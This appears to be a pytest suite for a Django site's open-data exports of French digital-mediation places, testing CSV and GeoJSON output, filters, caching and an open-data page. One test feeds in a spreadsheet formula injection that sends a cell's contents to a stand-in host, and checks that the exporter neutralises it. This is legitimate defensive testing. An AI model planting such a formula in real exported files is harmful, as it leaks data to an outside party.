"""The open-data files (/donnees/lieux.csv, /donnees/lieux.geojson) and the /donnees/ page."""

import codecs
import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from placette.opendata import lamednum
from placette.opendata import queries as opendata_queries
from placette.places.importers import mednum
from placette.places.importers import mednum_schema as schema
from placette.places.models import Place
from placette.places.services import places as services
from placette.sources.models import DataSource
from tests.factories import make_place
from tests.factories.places import full_place
from tests.pages import download

pytestmark = pytest.mark.django_db

CSV_URL = "/donnees/lieux.csv"
GEOJSON_URL = "/donnees/lieux.geojson"


def csv_rows(client, url: str = CSV_URL) -> list[dict[str, str]]:
    body, _response = download(client, url)
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def names(rows) -> list[str]:
    return sorted(row["nom"] for row in rows)


def test_every_vocabulary_code_has_the_standards_label():
    for column in mednum.CODED:
        labels = lamednum.labels_by_code(column)
        assert set(labels.values()) == set(schema.ENUMERATIONS[column].values()), column
    # The schema writes this one without a space: the export uses the schema's string.
    assert lamednum.labels_by_code("formations_labels")["etapes-numeriques"] == (
        "Étapes numériques(La Poste)"
    )


def test_csv_is_the_standard_file_with_its_name_and_headers(client):
    place = full_place()
    body, response = download(client, CSV_URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="{today}_00000000000000_lieux-de-mediation-numerique_France.csv"'
    )
    assert body.startswith(codecs.BOM_UTF8)  # a spreadsheet then reads UTF-8
    text = body.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == schema.COLUMNS
    assert dict(zip(header, row, strict=True)) == {
        "id": str(place.uid),
        "pivot": "12345678900015",
        "nom": "La Fabrique du Blosne",
        "commune": "Rennes",
        "code_postal": "35200",
        "code_insee": "35238",
        "adresse": "7 boulevard de Yougoslavie",
        "complement_adresse": "Rez-de-chaussée, porte B",
        "latitude": "48.0877",
        "longitude": "-1.6584",
        "typologie": "FABLAB|ASSO",
        "telephone": "+33299000000",
        "courriels": "contact@fabrique.example|atelier@fabrique.example",
        "site_web": "https://fabrique.example/|https://www.facebook.com/fabrique",
        "horaires": "Mo-Fr 09:00-12:00,14:00-18:00; Sa 10:00-12:00",
        "presentation_resume": "Un fablab de quartier, ouvert à toutes et à tous.",
        "presentation_detail": (
            'Imprimantes 3D, "découpe laser" ; ateliers.\nSur deux lignes | un'
        ),
        "source": "Réseau des fablabs bretons",
        "itinerance": "Itinérant",
        "structure_parente": "Ville de Rennes",
        "date_maj": "2025-03-14",
        "services": "Aide aux démarches administratives|Loisirs et créations numériques"
        "|Accès internet et matériel informatique",
        "publics_specifiquement_adresses": "Jeunes|Seniors",
        "prise_en_charge_specifique": "Surdité|Langues étrangères (anglais)",
        "frais_a_charge": "Gratuit sous condition|Payant",
        "dispositif_programmes_nationaux": (
            "Conseillers numériques|Relais numérique (Emmaüs Connect)"
        ),
        # The ANCT reader knows only "Étapes numériques (La Poste)": it goes with the others.
        "formations_labels": "Formé à « DUPLEX » (illettrisme)",
        "autres_formations_labels": (
            "Label Numérique Inclusif|Pass Numérique|Étapes numériques (La Poste)"
        ),
        "modalites_acces": "Se présenter|Prendre un RDV en ligne",
        "modalites_accompagnement": "Accompagnement individuel|À distance",
        "fiche_acces_libre": "https://acceslibre.beta.gouv.fr/app/35-rennes/a/fablab/erp/fab/",
        "prise_rdv": "https://rdv.fabrique.example/",
    }
    assert text.endswith("\r\n")


def test_a_sparse_place_gets_the_decided_fallbacks(client, settings):
    settings.SITE_NAME = "Placette"
    place = make_place(
        name="Coworking de la gare",
        address="1 place de la Gare",
        families=["coworking", "epn", "atelier"],
        phone="02 99 12 34 56",
        latitude=None,
        longitude=None,
    )
    (row,) = csv_rows(client)
    assert row["pivot"] == "00000000000000"
    assert row["source"] == "Placette"
    assert row["typologie"] == "TIERS_LIEUX|EPN"  # atelier, coworking → TIERS_LIEUX; epn → EPN
    assert row["telephone"] == "+33299123456"
    assert row["date_maj"] == timezone.localdate(place.updated_at).isoformat()
    assert (row["latitude"], row["longitude"], row["itinerance"]) == ("", "", "")
    assert row["services"] == row["frais_a_charge"] == ""


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("+33299000000", "+33299000000"),
        ("02.99.12.34.56", "+33299123456"),
        ("06 12 34 56 78", "+33612345678"),
        ("0590 12 34 56", "+590590123456"),
        ("0262 12 34 56", "+262262123456"),
        ("0033 2 99 12 34 56", "+33299123456"),
        ("3631", ""),  # a short number: the standard has no form for it
        ("", ""),
    ],
)
def test_phone_numbers_take_the_standards_form(raw, expected):
    assert lamednum.phone(raw) == expected


def test_pivot_is_siret_then_rna_then_unknown():
    place = make_place(siret="12345678900015", rna="W123456789")
    assert lamednum.pivot(place) == "12345678900015"
    place.siret = "12345678900011"  # its Luhn key is wrong: never a pivot
    assert lamednum.pivot(place) == "W123456789"
    place.siret = "35600000049837"  # La Poste: the digits add up to a multiple of 5
    assert lamednum.pivot(place) == "35600000049837"
    place.siret = ""
    assert lamednum.pivot(place) == "W123456789"
    place.rna = ""
    assert lamednum.pivot(place) == lamednum.UNKNOWN_PIVOT
    place.siret = "123"  # not a SIRET: unknown rather than an invalid file
    assert lamednum.pivot(place) == lamednum.UNKNOWN_PIVOT


def test_exports_take_the_directorys_filters(client):
    make_place(name="Fablab de Rennes", address="1 rue A", families=["fablab"])
    make_place(name="Coworking de Rennes", address="2 rue B", families=["coworking"])
    lyon = {"commune": "Lyon", "postal_code": "69004", "insee_code": "69384"}
    make_place(name="Fablab de Lyon", address="3 rue C", families=["fablab"], **lyon)
    assert names(csv_rows(client, f"{CSV_URL}?departement=35")) == [
        "Coworking de Rennes",
        "Fablab de Rennes",
    ]
    assert names(csv_rows(client, f"{CSV_URL}?famille=fablab")) == [
        "Fablab de Lyon",
        "Fablab de Rennes",
    ]
    assert names(csv_rows(client, f"{CSV_URL}?famille=fablab&region=84")) == ["Fablab de Lyon"]
    assert names(csv_rows(client, f"{CSV_URL}?q=coworking")) == ["Coworking de Rennes"]
    assert csv_rows(client, f"{CSV_URL}?departement=13") == []
    body, _response = download(client, f"{GEOJSON_URL}?departement=69")
    features = json.loads(body)["features"]
    assert [f["properties"]["nom"] for f in features] == ["Fablab de Lyon"]


@pytest.mark.parametrize(
    ("query", "territory"),
    [
        ("departement=35", "Ille-et-Vilaine"),
        ("region=53&famille=fablab", "Bretagne"),
        ("departement=22", "Côtes-d-Armor"),
        ("commune=Saint-Malo", "Saint-Malo"),
        ("departement=99", "France"),  # not a département: the filter is dropped
    ],
)
def test_file_name_names_the_territory(client, query, territory):
    response = client.get(f"{CSV_URL}?{query}")
    disposition = response["Content-Disposition"]
    today = timezone.localdate().isoformat()
    name = f"{today}_00000000000000_lieux-de-mediation-numerique_{territory}.csv"
    if territory.isascii():
        assert disposition == f'attachment; filename="{name}"'
    else:  # RFC 6266: non-ASCII names are sent percent-encoded
        assert disposition.startswith("attachment; filename*=utf-8''")
        assert "C%C3%B4tes-d-Armor" in disposition


def test_file_name_uses_the_publisher_id_setting(client, settings):
    settings.PLACETTE_PUBLISHER_ID = "W751234567"
    response = client.get(f"{GEOJSON_URL}?region=11")
    assert "_W751234567_lieux-de-mediation-numerique_" in response["Content-Disposition"]
    assert "le-de-France.geojson" in response["Content-Disposition"]


def test_unpublished_places_are_never_exported(client):
    make_place(name="Publié", address="1 rue A")
    hidden = make_place(name="Caché", address="2 rue B", families=["fablab"])
    services.save_place(fields={"is_published": False}, tags={}, place=hidden)
    for url in (CSV_URL, f"{CSV_URL}?famille=fablab", f"{CSV_URL}?q=cache"):
        assert "Caché" not in [row["nom"] for row in csv_rows(client, url)]
    body, _response = download(client, GEOJSON_URL)
    assert "Caché" not in body.decode()
    assert str(hidden.uid) not in body.decode()


def test_places_missing_a_required_value_are_left_out_not_invented(client):
    make_place(name="Complet", address="1 rue A")
    make_place(name="Sans adresse", address="")
    make_place(name="Sans commune", address="2 rue B", commune="")
    make_place(name="Code postal inconnu", address="3 rue C", postal_code="")
    make_place(name="Code postal faux", address="4 rue D", postal_code="3500")
    make_place(name="", address="5 rue E")
    assert names(csv_rows(client)) == ["Complet"]
    overview = opendata_queries.overview()
    assert (overview.published, overview.exported, overview.left_out) == (6, 1, 5)
    assert {m.column: m.places for m in overview.missing} == {
        "nom": 1,
        "commune": 1,
        "adresse": 1,
        "code_postal": 2,
    }


def test_exports_stream_chunk_by_chunk_in_constant_queries(client, monkeypatch):
    monkeypatch.setattr(opendata_queries, "CHUNK", 3)
    for i in range(7):
        make_place(name=f"Lieu {i}", address=f"{i} rue A", families=["fablab"])
    for url in (CSV_URL, GEOJSON_URL):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
            parts = list(response.streaming_content)
        # The header (or opening), one part per chunk of 3 places (and the GeoJSON closing).
        assert len(parts) == (4 if url == CSV_URL else 5)
        # The version (ETag, Last-Modified: two aggregates), then one query read in chunks,
        # the tags of each place included.
        assert len(queries.captured_queries) == 3, [q["sql"] for q in queries]


def test_exports_are_compressed_when_the_client_accepts_it(client):
    make_place(name="Lieu", address="1 rue A")
    response = client.get(CSV_URL, headers={"accept-encoding": "gzip"})
    assert response.streaming
    assert response["Content-Encoding"] == "gzip"


def test_geojson_features_carry_the_csv_values(client):
    located = full_place()
    unlocated = full_place(name="Médiathèque itinérante", latitude=None, longitude=None)
    body, response = download(client, GEOJSON_URL)
    assert response["Content-Type"] == "application/geo+json"
    assert response["Content-Disposition"].endswith('_lieux-de-mediation-numerique_France.geojson"')
    data = json.loads(body)
    assert data["type"] == "FeatureCollection"
    by_id = {feature["id"]: feature for feature in data["features"]}
    feature = by_id[str(located.uid)]
    assert feature["type"] == "Feature"
    assert feature["geometry"] == {"type": "Point", "coordinates": [-1.6584, 48.0877]}
    assert by_id[str(unlocated.uid)]["geometry"] is None
    rows = {row["id"]: row for row in csv_rows(client)}
    for uid, feature in by_id.items():
        assert list(feature["properties"]) == schema.COLUMNS
        assert feature["properties"] == rows[uid]


def test_page_shows_counts_reasons_credits_and_links(client):
    DataSource.objects.create(
        slug="cget-2019",
        label="CGET – Mission Coworking, recensement des tiers-lieux (2019)",
        licence="Licence Ouverte 2.0",
        licence_url="https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
        url="https://github.com/anct-carto/mission_coworking",
    )
    for i in range(3):
        make_place(name=f"Recensé {i}", address=f"{i} rue A", source="cget-2019")
    make_place(name="Recensé sans adresse", address="", source="cget-2019")
    make_place(name="D'ailleurs", address="1 rue B", source="inconnue")
    make_place(name="D'ici", address="2 rue C")
    hidden = make_place(name="Caché", address="3 rue D")
    services.save_place(fields={"is_published": False}, tags={}, place=hidden)
    response = client.get("/donnees/")
    assert response.status_code == 200
    html = " ".join(response.content.decode().split())
    assert "<h1>Données ouvertes</h1>" in html
    assert "6 lieux publiés dans l’annuaire" in html
    assert "5 lieux dans les fichiers" in html
    assert "1 lieu laissé de côté." in html
    assert "l&#x27;adresse à 1 lieu" in html
    assert "Licence Ouverte 2.0 (Etalab)" in html
    assert "(1 lieu dans les fichiers)" in html  # our own record
    assert (
        '<a href="https://github.com/anct-carto/mission_coworking">CGET – Mission Coworking, '
        "recensement des tiers-lieux (2019)</a> — 3 lieux — "
        '<a href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/">Licence Ouverte 2.0</a>'
    ) in html
    assert "inconnue — 1 lieu — licence non renseignée" in html
    assert 'href="/donnees/lieux.csv"' in html
    assert 'href="/donnees/lieux.geojson"' in html
    assert 'href="/donnees/lieux.csv?departement=35"' in html
    assert 'href="/api/"' in html
    assert 'formaction="/donnees/lieux.geojson"' in html
    assert timezone.localdate().strftime("%Y") in html  # last update


def test_page_with_no_place(client):
    response = client.get("/donnees/")
    assert response.status_code == 200
    assert "0 lieux dans les fichiers" in " ".join(response.content.decode().split())


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers(client, tmp_path):
    from tests.opendata.test_roundtrip import frictionless_errors

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    full_place(
        name=formula,
        address="+33 rue du Calcul",
        summary="-2+3 ateliers",
        collected_by="@contact",
        parent_organisation="\tTab",
        latitude=48.1,
        longitude=-1.68,
    )
    body, _response = download(client, CSV_URL)
    (row,) = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
    assert row["nom"] == "'" + formula
    assert row["adresse"] == "'+33 rue du Calcul"
    assert row["presentation_resume"] == "'-2+3 ateliers"
    assert row["source"] == "'@contact"
    assert row["structure_parente"] == "'\tTab"
    assert row["commune"] == "Rennes"  # nothing added where nothing is needed
    assert (row["latitude"], row["longitude"]) == ("48.1", "-1.68")  # typed: unchanged
    assert row["telephone"].startswith("+33")  # patterned by the standard: unchanged
    assert frictionless_errors(tmp_path, body) == ""


@pytest.mark.parametrize("url", [CSV_URL, GEOJSON_URL])
def test_a_conditional_get_is_answered_304_without_writing_the_file(client, monkeypatch, url):
    place = full_place()
    hidden = full_place(name="Autre lieu")
    body, first = download(client, url)
    etag, last_modified = first["ETag"], first["Last-Modified"]
    assert etag and last_modified

    def not_written(*args, **kwargs):
        raise AssertionError("the file was written for a 304")

    with monkeypatch.context() as patch:
        patch.setattr(opendata_queries, "chunks", not_written)
        for headers in (
            {"HTTP_IF_NONE_MATCH": etag},
            {"HTTP_IF_NONE_MATCH": etag, "HTTP_ACCEPT_ENCODING": "gzip"},
            {"HTTP_IF_MODIFIED_SINCE": last_modified},
        ):
            assert client.get(url, **headers).status_code == 304, headers
    assert client.get(f"{url}?departement=35", HTTP_IF_NONE_MATCH=etag).status_code == 200

    services.save_place(fields={"name": "La Fabrique renommée"}, tags={}, place=place)
    renamed = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert renamed.status_code == 200 and renamed["ETag"] != etag
    services.save_place(fields={"is_published": False}, tags={}, place=hidden)
    unpublished = client.get(url, HTTP_IF_NONE_MATCH=renamed["ETag"])
    assert unpublished.status_code == 200
    # HTTP dates count seconds: the change is made to fall in a later one.
    later = Place.objects.get(pk=hidden.pk).updated_at + timedelta(seconds=2)
    Place.objects.filter(pk=hidden.pk).update(updated_at=later)
    assert client.get(url, HTTP_IF_MODIFIED_SINCE=last_modified).status_code == 200


def test_a_gzipped_export_has_a_weak_etag_that_still_matches(client):
    full_place()
    response = client.get(CSV_URL, HTTP_ACCEPT_ENCODING="gzip")
    assert response["Content-Encoding"] == "gzip"
    assert response["ETag"].startswith('W/"')
    again = client.get(CSV_URL, HTTP_ACCEPT_ENCODING="gzip", HTTP_IF_NONE_MATCH=response["ETag"])
    assert again.status_code == 304
